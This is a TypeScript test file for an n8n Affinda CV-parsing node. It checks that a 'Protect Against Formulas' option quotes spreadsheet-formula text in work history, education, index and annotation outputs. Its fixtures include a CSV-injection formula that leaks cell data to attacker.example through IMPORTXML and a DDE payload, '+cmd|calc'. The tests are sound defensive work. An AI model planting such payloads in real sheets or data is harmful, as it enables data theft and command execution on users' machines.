import type { IDataObject } from 'n8n-workflow';

import { RICH_LEGACY_CV } from '../fixtures/documents/rich-cv';
import { documentAnswer } from '../helpers/document-answers';
import {
	affindaCredentials,
	affindaWorkflow,
	AFFINDA_NODE_NAME,
} from '../helpers/in-process-workflow';
import { runWorkflow, stopN8nCoreTimers } from '../helpers/n8n-in-process';
import { startRecordingServer, type RecordingServer } from '../helpers/recording-server';

/**
 * Protect Against Formulas on every output that is a table a user appends to a sheet, not only
 * the Flat Row: Work History and Education, Index → Get Documents with its details, Annotation →
 * Get Many. A CV's text starting with =, +, - or @ gets a leading ' when the option is on (its
 * default); off, it is as written; JSON Resume is data and stays as written.
 */

const FORMULA = '=IMPORTXML("https://attacker.example/?q="&A1,"//x")';
const locator = (value: string) => ({ __rl: true, mode: 'id', value });

const cvData = RICH_LEGACY_CV.data as IDataObject;
const jobs = cvData.workExperience as IDataObject[];
const schools = cvData.education as IDataObject[];
const HOSTILE_CV = {
	...RICH_LEGACY_CV,
	data: {
		...cvData,
		workExperience: jobs.map((job) => ({ ...job, jobTitle: FORMULA })),
		education: schools.map((school) => ({ ...school, organization: '+cmd|calc' })),
	},
};

let server: RecordingServer;
let answer: (path: string) => IDataObject;
beforeAll(async () => {
	server = await startRecordingServer(({ path }) => ({ body: answer(path) }));
});
afterEach(() => server.requests.splice(0));
afterAll(async () => {
	await server.stop();
	stopN8nCoreTimers();
});

const run = async (parameters: IDataObject) =>
	await runWorkflow(affindaWorkflow(parameters), { credentials: affindaCredentials(server.url) });
const outputOf = async (parameters: IDataObject) =>
	(await run(parameters)).output(AFFINDA_NODE_NAME).map((item) => item.json);

describe('Work History, Education, JSON Resume', () => {
	beforeEach(() => (answer = () => HOSTILE_CV));
	const get = { resource: 'document', operation: 'get', identifier: locator('cvTimS01') };

	test('Work History and Education: quoted by default, as written when the option is off', async () => {
		const history = await outputOf({ ...get, output: 'workHistory' });
		expect(history.length).toBeGreaterThan(1);
		expect(history.map((row) => row.jobTitle)).toEqual(history.map(() => `'${FORMULA}`));
		const education = await outputOf({ ...get, output: 'education' });
		expect(education.map((row) => row.institution)).toEqual(education.map(() => "'+cmd|calc"));

		const off = { options: { protectAgainstFormulas: false } };
		const asWritten = await outputOf({ ...get, output: 'workHistory', ...off });
		expect(asWritten.map((row) => row.jobTitle)).toEqual(history.map(() => FORMULA));
		const educationAsWritten = await outputOf({ ...get, output: 'education', ...off });
		expect(educationAsWritten.map((row) => row.institution)).toEqual(
			education.map(() => '+cmd|calc'),
		);
	});

	test('JSON Resume is data: its positions keep their text', async () => {
		const [resume] = await outputOf({ ...get, output: 'jsonResume' });
		expect((resume.work as IDataObject[]).map((job) => job.position)).toEqual(
			jobs.map(() => FORMULA),
		);
	});

	test('a value that is not true or false is refused before any request, naming the option', async () => {
		const { error } = await run({
			...get,
			output: 'workHistory',
			options: { protectAgainstFormulas: 'yes' },
		});
		expect(error()?.message).toMatch(
			/^Parameter "Protect Against Formulas" \(protectAgainstFormulas\) is "yes"/,
		);
		expect(server.requests).toHaveLength(0);
	});
});

describe('Index → Get Documents with Include Document Details', () => {
	beforeEach(
		() =>
			(answer = (path) =>
				path.startsWith('/v3/index/')
					? { count: 1, next: null, previous: null, results: [{ document: 'doc1' }] }
					: documentAnswer('doc1', {
							data: { name: { raw: FORMULA, first: FORMULA, last: 'Doe' }, emails: [] },
						})),
	);
	const getDocuments = {
		resource: 'index',
		operation: 'getDocuments',
		indexName: 'pool',
		includeDocumentDetails: true,
	};

	test('the details are quoted by default, as written when the option is off', async () => {
		const [row] = await outputOf(getDocuments);
		expect(row).toMatchObject({ index: 'pool', document: 'doc1', firstName: `'${FORMULA}` });
		const [asWritten] = await outputOf({
			...getDocuments,
			options: { protectAgainstFormulas: false },
		});
		expect(asWritten).toMatchObject({ firstName: FORMULA });
		expect(server.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
			'GET /v3/index/pool/documents',
			'GET /v3/documents/doc1',
			'GET /v3/index/pool/documents',
			'GET /v3/documents/doc1',
		]);
	});
});

describe('Annotation → Get Many', () => {
	beforeEach(
		() =>
			(answer = () => ({
				count: 2,
				next: null,
				previous: null,
				results: [
					{ id: 1, document: 'doc1', field: 'jobTitle', parsed: FORMULA, raw: '@SUM(A1:A2)' },
					{ id: 2, document: 'doc1', field: 'phone', parsed: '+61 412 345 678', raw: '-3' },
				],
			})),
	);
	const getMany = { resource: 'annotation', operation: 'getMany', identifier: locator('doc1') };

	test('value and raw are quoted by default (phone numbers and numbers stay), as written when off', async () => {
		const rows = await outputOf(getMany);
		expect(rows.map((row) => [row.id, row.value, row.raw])).toEqual([
			[1, `'${FORMULA}`, "'@SUM(A1:A2)"],
			[2, '+61 412 345 678', '-3'],
		]);
		const asWritten = await outputOf({ ...getMany, options: { protectAgainstFormulas: false } });
		expect(asWritten.map((row) => [row.id, row.value, row.raw])).toEqual([
			[1, FORMULA, '@SUM(A1:A2)'],
			[2, '+61 412 345 678', '-3'],
		]);
	});
});
